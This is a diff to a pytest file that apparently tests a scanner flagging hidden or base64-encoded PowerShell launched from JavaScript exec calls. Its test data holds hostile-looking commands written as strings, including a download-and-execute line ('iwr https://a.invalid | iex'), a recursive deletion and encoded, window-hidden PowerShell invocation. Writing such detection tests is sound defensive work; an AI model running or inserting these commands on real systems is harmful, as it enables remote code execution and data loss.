@@ -1,3 +1,5 @@
+import base64
+
 import pytest
 
 from tests.offline import found
@@ -110,6 +112,30 @@ def test_a_hidden_powershell_is_found(command: str) -> None:
 )
 def test_an_ordinary_powershell_is_not_found(command: str) -> None:
     assert found(f"{EXEC}cp.exec('{command}')") == {}
+
+
+def encoded(code: str) -> str:
+    return base64.b64encode(code.encode("utf-16-le")).decode()
+
+
+@pytest.mark.parametrize(
+    ("code", "is_found"),
+    [
+        ("Get-Process | Select-Object Id,Name | ConvertTo-Json", False),
+        ("Get-Process; Remove-Item x -Recurse", True),
+        ("Get-Process; iwr https://a.invalid | iex", True),
+        ("Get-Process | % { [Convert]::FromBase64String($_) }", True),
+    ],
+)
+def test_an_encoded_command_counts_if_it_does_more_than_ask(code: str, *, is_found: bool) -> None:
+    command = f"powershell -NoProfile -EncodedCommand {encoded(code)}"
+    rules = found(f"{EXEC}cp.exec('{command}', {{ windowsHide: true }})")
+    assert ("hidden-powershell" in rules) is is_found
+
+
+def test_an_encoded_command_that_is_not_known_is_medium() -> None:
+    code = "cp.exec(`powershell -EncodedCommand ${code}`, { windowsHide: true })"
+    assert found(f"{EXEC}{code}") == {"hidden-powershell": Severity.MEDIUM}
 
 
 @pytest.mark.parametrize("command", ["powershell -w hidden -c dir", "pwsh -Win Hidden -Command ls"])
